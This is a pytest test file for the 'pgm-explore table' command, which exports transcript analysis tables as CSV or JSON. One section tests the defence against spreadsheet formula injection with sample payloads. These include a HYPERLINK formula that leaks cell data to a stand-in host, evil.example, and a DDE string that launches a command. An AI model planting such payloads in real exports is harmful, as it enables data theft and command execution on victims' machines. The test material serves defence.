"""`pgm-explore table`: every table of pgm_explore.analysis as CSV (header row in the documented
column order, no index) or as one JSON array of records (null where a value is missing)."""

from __future__ import annotations

import io
import json
import math
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from conftest import ROOT

from pgm_explore import analysis
from pgm_explore.cli import build_parser, main
from pgm_explore.dialogue import Transcript
from pgm_explore.spec.process_actions import PA_STATUS_CODES

TRANSCRIPTS = ROOT / "data" / "transcripts"
FILES = sorted(
    p for p in TRANSCRIPTS.rglob("*") if p.suffix in (".json", ".jsonl") and not p.name.endswith(".expected.json")
)
VALID = [p for p in FILES if p.parent == TRANSCRIPTS]
MARKET = TRANSCRIPTS / "market-wallet-limit.jsonl"
LONG = TRANSCRIPTS / "long-deliberation.jsonl"
UNANSWERED = TRANSCRIPTS / "defective" / "unanswered-request.jsonl"
TABLE_NAMES = tuple(table.name for table in analysis.TABLE_CATALOG)


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def command(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "pgm_explore", *args], capture_output=True, timeout=60, check=False)


def documented_columns() -> dict[str, list[str]]:
    """The column tables of docs/tables.md: for each ``## `name``` section, the first column of
    the table whose header starts ``| column |``."""
    found: dict[str, list[str]] = {}
    name = None
    in_columns = False
    for line in (ROOT / "docs" / "tables.md").read_text(encoding="utf-8").splitlines():
        if heading := re.fullmatch(r"## `(\w+)`", line):
            name, in_columns = heading[1], False
        elif name and line.startswith("| column |"):
            in_columns = True
            found[name] = []
        elif in_columns and (cell := re.match(r"\| `(\w+)` \|", line)):
            found[name].append(cell[1])  # type: ignore[index]
        elif in_columns and not line.startswith("|"):
            in_columns = False
    return found


def plain(value: Any) -> Any:
    """A cell as the JSON output should show it."""
    if value is pd.NA or value is None or (isinstance(value, float) and math.isnan(value)):
        return None
    return value.item() if hasattr(value, "item") else value


# --- the names and columns ----------------------------------------------------------------------


def test_each_table_is_declared_once_for_the_library_the_command_and_the_document(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert tuple(analysis.TABLES) == TABLE_NAMES
    for table in analysis.TABLE_CATALOG:
        assert analysis.TABLES[table.name] is getattr(analysis, table.function)
        assert table.anchor == f"docs/tables.md#{table.name}"
    text = (ROOT / "docs" / "tables.md").read_text(encoding="utf-8")
    listed = re.findall(r"^\| \[`(\w+)`\]\(#(\w+)\) \| `(\w+)\(t\)` \| (.+) \|$", text, re.MULTILINE)
    assert listed == [(t.name, t.name, t.function, t.help) for t in analysis.TABLE_CATALOG]
    assert tuple(documented_columns()) == TABLE_NAMES  # a section per table, in the same order
    _, out, _ = run(capsys, "table", "--help")
    shown = " ".join(out.split())
    for table in analysis.TABLE_CATALOG:
        assert f"{table.name} {table.help}" in shown
    assert run(capsys, "table", "nosuchtable", str(MARKET))[0] == 2


@pytest.mark.parametrize("what", TABLE_NAMES)
@pytest.mark.parametrize("path", [MARKET, LONG, UNANSWERED], ids=lambda p: p.name)
def test_csv_header_is_the_documented_column_order(what: str, path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = run(capsys, "table", what, str(path))
    assert (status, err) == (0, "")
    header = out.splitlines()[0].split(",")
    assert header == list(analysis.DTYPES[what]) == documented_columns()[what]


@pytest.mark.parametrize("what", TABLE_NAMES)
def test_csv_is_the_table(what: str, capsys: pytest.CaptureFixture[str]) -> None:
    frame = analysis.TABLES[what](Transcript.load(str(LONG)))
    _, out, _ = run(capsys, "table", what, str(LONG))
    assert out == frame.to_csv(index=False, lineterminator="\n")
    back = pd.read_csv(io.StringIO(out), keep_default_na=False)
    assert back.shape == frame.shape
    assert not out.startswith(",")  # no index column


@pytest.mark.parametrize("what", TABLE_NAMES)
@pytest.mark.parametrize("path", [LONG, UNANSWERED], ids=lambda p: p.name)
def test_json_is_one_array_of_records_with_null_for_missing_values(
    what: str, path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, _ = run(capsys, "table", what, str(path), "--format", "json")
    assert status == 0
    records = json.loads(out)
    frame = analysis.TABLES[what](Transcript.load(str(path)))
    columns = list(analysis.DTYPES[what])
    assert isinstance(records, list) and len(records) == len(frame)
    assert all(list(record) == columns for record in records)
    assert records == [{c: plain(v) for c, v in zip(columns, row, strict=True)} for row in frame.itertuples(False)]
    assert "NaN" not in out and "<NA>" not in out


def test_missing_values_are_null_in_json_and_empty_in_csv(capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, "table", "exchanges", "--format", "json", str(UNANSWERED))
    (unanswered,) = [r for r in json.loads(out) if r["type"] == "BKN-PAL"]
    assert unanswered["kind"] is None  # BKN-PAL has no Kind
    assert unanswered["response"] is unanswered["latency"] is unanswered["outcome"] is None  # never answered
    _, out, _ = run(capsys, "table", "exchanges", str(UNANSWERED))
    (row,) = [line for line in out.splitlines() if line.startswith("BKN-PAL,")]
    assert row.endswith(",,,,")


def test_json_records_are_one_per_line(capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, "table", "pastatus", "--format", "json", str(MARKET))
    lines = out.splitlines()
    assert (lines[0], lines[-1], len(lines)) == ("[", "]", 12)
    assert lines[1] == '{"PAStatus":"Ack","count":2},'
    assert out.isascii()


def test_an_empty_table(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "table", "commitments", str(MARKET), "--format", "json") == (0, "[]\n", "")
    assert run(capsys, "table", "findings", str(MARKET)) == (0, ",".join(analysis.FINDINGS_COLUMNS) + "\n", "")


@pytest.mark.parametrize("path", FILES, ids=lambda p: str(p.relative_to(TRANSCRIPTS)))
def test_pastatus_has_always_ten_rows(path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, "table", "pastatus", str(path))
    rows = [line.split(",") for line in out.splitlines()[1:]]
    assert [code for code, _ in rows] == list(PA_STATUS_CODES)
    _, out, _ = run(capsys, "table", "pastatus", "--format", "json", str(path))
    assert [r["PAStatus"] for r in json.loads(out)] == list(PA_STATUS_CODES)
    assert all(isinstance(r["count"], int) for r in json.loads(out))


# --- inputs -----------------------------------------------------------------------------------------


def test_paths_are_one_transcript(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = MARKET.read_text().splitlines(keepends=True)
    first, second = tmp_path / "first.jsonl", tmp_path / "second.jsonl"
    first.write_text("".join(lines[:6]))
    second.write_text("".join(lines[6:]))
    _, out, _ = run(capsys, "table", "feasibility", "--format", "json", str(first), str(second))
    _, whole, _ = run(capsys, "table", "feasibility", "--format", "json", str(MARKET))
    assert json.loads(out) == json.loads(whole)  # the Responses in the second part answer the first
    assert [r["PAStatus"] for r in json.loads(out)] == ["Ack", "Ack", "InsValue"]


def test_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(MARKET.read_bytes())))
    status, out, _ = run(capsys, "table", "messages", "-")
    assert status == 0
    # A cell starting with "-" is a formula to a spreadsheet: defused like any other (issue 11).
    assert [line.split(",")[1] for line in out.splitlines()[1:]] == [f"'-:{n}" for n in range(1, 14)]
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(MARKET.read_bytes())))
    _, raw, _ = run(capsys, "table", "messages", "--no-csv-escape", "-")
    assert [line.split(",")[1] for line in raw.splitlines()[1:]] == [f"-:{n}" for n in range(1, 14)]


# --- formula injection (issue 11) -------------------------------------------------------------------

_FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]  # (a "\r" is left to tests/test_hostile.py: pandas does not quote it with "\n" line ends)


def _formula_transcript(tmp_path: Path) -> Path:
    lines = MARKET.read_text().splitlines()
    docs = [json.loads(line) for line in lines]
    for doc, formula in zip(docs, _FORMULAS * 3, strict=False):
        doc["DialogID"] = formula
        for key in ("QueryID", "PCPromptID"):
            if key in doc:
                doc[key] = formula + doc[key]
    path = tmp_path / "formulas.jsonl"
    path.write_text("".join(json.dumps(doc) + "\n" for doc in docs))
    return path


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _formula_transcript(tmp_path)
    frame = analysis.messages(Transcript.load(str(path)))
    status, out, _ = run(capsys, "table", "messages", str(path))
    assert status == 0
    import csv

    header, *rows = csv.reader(io.StringIO(out, newline=""))  # (a "\r" inside a quoted cell stays)
    back = {name: [row[i] for row in rows] for i, name in enumerate(header)}
    for column in ("dialog", "query_id"):
        assert all(cell.startswith("'") for cell in back[column] if cell)
        assert [cell.removeprefix("'") for cell in back[column]] == [
            v if isinstance(v, str) else "" for v in frame[column]
        ]
    assert back["dialog"][0] == "'" + _FORMULAS[0]
    assert any(back["turn"]) and not any(cell.startswith("'") for cell in back["turn"])  # numbers stay
    # The option turns it off; JSON, which no spreadsheet runs, is never touched.
    _, raw, _ = run(capsys, "table", "messages", "--no-csv-escape", str(path))
    assert raw == frame.to_csv(index=False, lineterminator="\n")
    _, as_json, _ = run(capsys, "table", "messages", "--format", "json", str(path))
    assert [record["dialog"] for record in json.loads(as_json)] == list(frame["dialog"])


def test_help_tells_of_the_csv_escape(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        build_parser().parse_args(["table", "--help"])
    out = capsys.readouterr().out
    assert "--no-csv-escape" in out and "OWASP" in out


# --- exit statuses ----------------------------------------------------------------------------------


def test_findings_do_not_change_the_status(capsys: pytest.CaptureFixture[str]) -> None:
    path = TRANSCRIPTS / "defective" / "response-to-unknown-request.jsonl"
    status, out, _ = run(capsys, "table", "findings", str(path))
    assert status == 0
    assert len(out.splitlines()) == 3


@pytest.mark.parametrize("output", ["csv", "json"])
def test_exit_2_and_no_output_for_an_unreadable_path(
    output: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "missing.jsonl"
    status, out, err = run(capsys, "table", "messages", "--format", output, str(MARKET), str(missing))
    assert (status, out) == (2, "")
    assert err.startswith(f"pgm-explore table: cannot read {missing}: no such file")
    status, out, err = run(capsys, "table", "messages", str(tmp_path))
    assert (status, out) == (2, "")
    assert err == f"pgm-explore table: cannot read {tmp_path}: it is a directory (give the files inside it)\n"


@pytest.mark.parametrize(
    "argv",
    [
        ["table"],
        ["table", "messages"],
        ["table", "tables", "x.jsonl"],
        ["table", "messages", "x.jsonl", "--format", "xlsx"],
    ],
)
def test_exit_2_for_usage_errors(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = run(capsys, *argv)
    assert (status, out) == (2, "")
    assert "usage: pgm-explore table" in err


def test_help_lists_the_tables_and_formats(capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(capsys, "table", "--help")
    assert status == 0
    for words in (*TABLE_NAMES, "docs/tables.md", "ONE JSON array of records", "null", "exit status"):
        assert words in out


# --- the command ------------------------------------------------------------------------------------


def test_the_command_writes_what_the_function_does(capsys: pytest.CaptureFixture[str]) -> None:
    result = command("table", "exchanges", str(MARKET))
    _, out, _ = run(capsys, "table", "exchanges", str(MARKET))
    assert (result.returncode, result.stdout.decode(), result.stderr) == (0, out, b"")


def test_only_table_imports_pandas() -> None:
    code = (
        "import sys; from pgm_explore.cli import main; "
        f"main(['validate', {str(MARKET)!r}]); main(['check', {str(MARKET)!r}]); "
        "print('pandas' in sys.modules, file=sys.stderr)"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=60, check=True)
    assert result.stderr == b"False\n"


def test_closed_pipe_ends_quietly(tmp_path: Path) -> None:
    path = tmp_path / "big.jsonl"
    path.write_text(LONG.read_text() * 30)  # more rows than a pipe buffer holds (ids repeat: findings, no matter)
    with subprocess.Popen(
        [sys.executable, "-m", "pgm_explore", "table", "messages", str(path)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None and process.stderr is not None
        first = process.stdout.readline()
        process.stdout.close()
        err = process.stderr.read()
        assert process.wait(timeout=60) == 141
    assert first.decode().startswith("position,source,")
    assert err == b"", err.decode(errors="replace")
